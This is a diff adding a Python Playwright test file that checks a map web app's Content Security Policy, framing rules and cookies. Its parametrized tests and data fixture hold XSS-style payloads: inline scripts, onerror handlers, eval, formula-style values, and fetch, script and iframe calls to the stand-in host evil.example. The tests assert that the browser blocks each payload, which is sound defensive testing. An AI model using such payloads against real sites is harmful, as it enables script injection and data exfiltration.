@@ -1,0 +1,239 @@
+"""What a browser refuses to do for a page of the atlas, and that nothing the page needs is."""
+
+import shutil
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+
+import pytest
+from playwright.sync_api import ConsoleMessage, Page, expect
+
+from atlas.pages import PAGES
+from tests.browser.conftest import ROOT, Reader, Server
+from tests.browser.test_journeys import address
+from tests.conftest import Folder
+
+pytestmark = pytest.mark.browser
+
+Readers = Callable[..., Reader]
+VIEWS = {"place": "&place=deyang", "share": "&of=sectors", "sectors": "&sector=rail-transit"}
+# Any canvas with two colours on it is a map that was drawn.
+DRAWN = """() => {
+  const canvas = document.querySelector("#deckgl-overlay, .stDeckGlJsonChart canvas")
+  if (!canvas) return false
+  const small = new OffscreenCanvas(60, 40).getContext("2d")
+  small.drawImage(canvas, 0, 0, 60, 40)
+  const { data } = small.getImageData(0, 0, 60, 40)
+  return new Set(new Uint32Array(data.buffer)).size > 20
+}"""
+VIOLATED = """() => {
+  window.violations = []
+  document.addEventListener("securitypolicyviolation", (event) =>
+    window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`))
+}"""
+
+
+class Watched:
+    """A reader whose browser tells of everything the policy keeps it from."""
+
+    def __init__(self, reader: Reader) -> None:
+        self.reader = reader
+        self.refusals: list[str] = []
+        reader.page.add_init_script(f"({VIOLATED})()")
+        reader.page.on("console", self._listen)
+
+    def _listen(self, message: ConsoleMessage) -> None:
+        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text:
+            self.refusals.append(message.text)
+
+    def assert_at_peace(self) -> None:
+        told = [one for frame in self.reader.page.frames for one in frame.evaluate(VIOLATIONS)]
+        assert [*self.refusals, *told, *self.reader.errors] == []
+        assert self.reader.strayed == []
+
+
+VIOLATIONS = "window.violations ?? []"
+
+
+@pytest.fixture
+def watched(reader: Readers) -> Watched:
+    return Watched(reader())
+
+
+def _settled(page: Page) -> None:
+    page.wait_for_load_state("networkidle")
+
+
+@pytest.mark.parametrize("page", PAGES)
+def test_every_page_gets_all_it_needs_from_its_own_site(watched: Watched, page: str) -> None:
+    shown = watched.reader.open(f"{page}?lang=zh{VIEWS.get(page, '')}")
+    if page in ("", "place", "distances"):
+        shown.wait_for_function(DRAWN)
+    _settled(shown)
+    watched.assert_at_peace()
+
+
+@pytest.mark.parametrize("path", ["brief", "map.svg", "qr.svg", "map.png"])
+def test_what_is_opened_on_its_own_needs_nothing_more(watched: Watched, path: str) -> None:
+    watched.reader.page.goto(f"{watched.reader.url}/{path}?lang=en&place=deyang")
+    _settled(watched.reader.page)
+    watched.assert_at_peace()
+
+
+def test_a_chip_works_under_the_policy(watched: Watched) -> None:
+    page = watched.reader.open("?lang=en")
+    page.locator("#chip-sector-aerospace").click()
+    expect(page).to_have_url(address("?lang=en&sector=aerospace"))
+    expect(page.locator(".sentence")).to_contain_text("7 of 14")
+    page.wait_for_function(DRAWN)
+    watched.assert_at_peace()
+
+
+def test_the_frame_on_the_page_to_share_shows_the_view(watched: Watched) -> None:
+    page = watched.reader.open("share?lang=en&of=sectors&sector=rail-transit")
+    inside = page.frame_locator("iframe[src*=embed]")
+    expect(inside.locator("h1")).to_have_text("Rail transit")
+    watched.assert_at_peace()
+
+
+@pytest.fixture(scope="module")
+def reserved() -> Iterator[Server]:
+    """A server whose host lets no other site show it."""
+    running = Server(ATLAS_FRAME_ANCESTORS="self")
+    yield running
+    running.stop()
+
+
+@pytest.fixture
+def host(server: Server, reserved: Server) -> Iterator[str]:
+    """Another site, whose pages `/open` and `/reserved` show the atlas in a frame."""
+    frames = {"/open": server.url, "/reserved": reserved.url}
+
+    class Pages(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("content-type", "text/html")
+            self.end_headers()
+            frame = (
+                f'<iframe src="{frames.get(self.path)}/?lang=en&embed=true" height=700></iframe>'
+            )
+            self.wfile.write(frame.encode())
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    serving = ThreadingHTTPServer(("127.0.0.1", 0), Pages)
+    Thread(target=serving.serve_forever, daemon=True).start()
+    yield f"http://localhost:{serving.server_port}"
+    serving.shutdown()
+    serving.server_close()
+
+
+def _visit(reader: Reader, link: str) -> Page:
+    reader.page.route(link, lambda route: route.continue_())
+    reader.page.goto(link)
+    return reader.page
+
+
+def test_another_site_may_show_the_map_in_a_frame(watched: Watched, host: str) -> None:
+    page = _visit(watched.reader, f"{host}/open")
+    expect(page.frame_locator("iframe").locator("#credits")).to_contain_text("OpenStreetMap")
+    page.frames[1].wait_for_function(DRAWN)
+    watched.assert_at_peace()
+
+
+def test_another_site_may_not_where_the_host_says_so(
+    reader: Readers, reserved: Server, host: str
+) -> None:
+    watched = Watched(reader(reserved.url))
+    page = _visit(watched.reader, f"{host}/reserved")
+    _settled(page)
+    assert page.frame_locator("iframe").locator("#credits").count() == 0
+    assert "frame-ancestors 'self'" in "".join(watched.refusals)
+    shared = reader(reserved.url).open("share?lang=en&of=sectors")
+    expect(shared.frame_locator("iframe").locator("#credits")).to_contain_text("OpenStreetMap")
+
+
+@pytest.mark.parametrize(
+    ("attack", "refused"),
+    [
+        (
+            "const one = document.createElement('script'); one.textContent = 'window.hurt = true';"
+            "document.body.append(one)",
+            "script-src-elem inline",
+        ),
+        (
+            "document.body.insertAdjacentHTML('beforeend',"
+            '\'<img src="data:," onerror="window.hurt = true">\')',
+            "script-src-attr inline",
+        ),
+        (
+            "document.body.insertAdjacentHTML('beforeend',"
+            "'<img src=\"https://evil.example/dot.png\">')",
+            "img-src https://evil.example/dot.png",
+        ),
+        (
+            "fetch('https://evil.example/take', { mode: 'no-cors' }).catch(() => {})",
+            "connect-src https://evil.example/take",
+        ),
+        (
+            "const one = document.createElement('script'); one.src = 'https://evil.example/a.js';"
+            "document.body.append(one)",
+            "script-src-elem https://evil.example/a.js",
+        ),
+        ("setTimeout(() => eval('window.hurt = true'))", "script-src eval"),
+        (
+            "document.body.insertAdjacentHTML('beforeend',"
+            "'<iframe src=\"https://evil.example/\"></iframe>')",
+            "frame-src https://evil.example",
+        ),
+    ],
+)
+def test_what_is_smuggled_into_a_page_is_refused(
+    watched: Watched, attack: str, refused: str
+) -> None:
+    page = watched.reader.open("about?lang=en")
+    page.evaluate(f"() => {{ {attack} }}")
+    page.wait_for_function("() => window.violations.length > 0")
+    (found,) = page.evaluate(VIOLATIONS)
+    assert found.startswith(refused)
+    assert page.evaluate("window.hurt") is None
+    assert watched.reader.strayed == []
+
+
+@pytest.fixture
+def attacked(tmp_path: Path) -> Iterator[Server]:
+    """A server of data in which every place's name is markup that would run a script."""
+    folder = Folder(shutil.copytree(ROOT / "data", tmp_path / "data"))
+    attack = {"name_en": "<img src=x onerror=hurt()>", "short_en": "@@=hurt()"}
+    folder.write("places", [row | attack for row in folder.rows("places")])
+    running = Server(ATLAS_DATA=str(folder.path))
+    yield running
+    running.stop()
+
+
+def test_a_name_that_is_markup_is_text_in_the_tooltip(reader: Readers, attacked: Server) -> None:
+    watched = Watched(reader(attacked.url))
+    page = watched.reader.open("?lang=en")
+    page.wait_for_function(DRAWN)
+    canvas = page.get_by_test_id("stDeckGlJsonChart").bounding_box()
+    assert canvas
+    tooltip = page.locator(".deck-tooltip")
+    # Across the south of Sichuan, where a place's land is met sooner or later.
+    for step in range(40):
+        x = canvas["x"] + canvas["width"] * (0.1 + step / 100)
+        page.mouse.move(x, canvas["y"] + canvas["height"] / 2)
+        page.wait_for_timeout(100)
+        if tooltip.is_visible():
+            break
+    expect(tooltip).to_contain_text("<img src=x onerror=hurt()>")
+    assert page.locator("img[src=x]").count() == 0
+    watched.assert_at_peace()
+
+
+def test_the_only_cookie_is_streamlits_token_for_this_site(watched: Watched) -> None:
+    page = watched.reader.open()
+    assert {(one["name"], one["sameSite"]) for one in page.context.cookies()} == {
+        ("_streamlit_xsrf", "Lax")
+    }
